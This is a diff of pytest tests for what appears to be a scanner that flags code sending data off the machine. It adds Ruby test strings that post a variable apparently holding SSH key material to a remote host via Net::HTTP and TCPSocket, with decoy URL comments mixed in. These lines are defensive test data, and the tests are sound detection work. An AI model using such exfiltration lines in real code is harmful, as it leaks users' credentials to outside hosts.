@@ -111,3 +111,29 @@ def test_its_harmless_twin_passes(name: str, tmp_path: Path) -> None:
     path, _, good = CASES[name]
 
     assert verdict_of(tmp_path, path, good) is Verdict.PASS
+
+
+@pytest.mark.parametrize(
+    "decoy",
+    [
+        "\n".join(f"# https://github.com/acme/{number}" for number in range(120)),
+        "NOTE = 'github.com'",
+        "# served at localhost",
+    ],
+)
+@pytest.mark.parametrize(
+    "sent",
+    [
+        f"Net::HTTP.post(URI('https://{HOST}/in'), {SSH})",
+        f'Net::HTTP.post(URI("https://#{{ARGV[0]}}/in"), {SSH})',
+        f"TCPSocket.new(ARGV[0], 443).write({SSH})",
+    ],
+)
+def test_other_addresses_of_a_program_excuse_none(decoy: str, sent: str, tmp_path: Path) -> None:
+    assert verdict_of(tmp_path, "a.rb", f"{decoy}\n{sent}\n") is not Verdict.PASS
+
+
+def test_a_connection_to_the_same_machine_is_harmless(tmp_path: Path) -> None:
+    text = f"NEAR = 'localhost'\nTCPSocket.new(NEAR, 8080).write({SSH})\n"
+
+    assert verdict_of(tmp_path, "a.rb", text) is Verdict.PASS
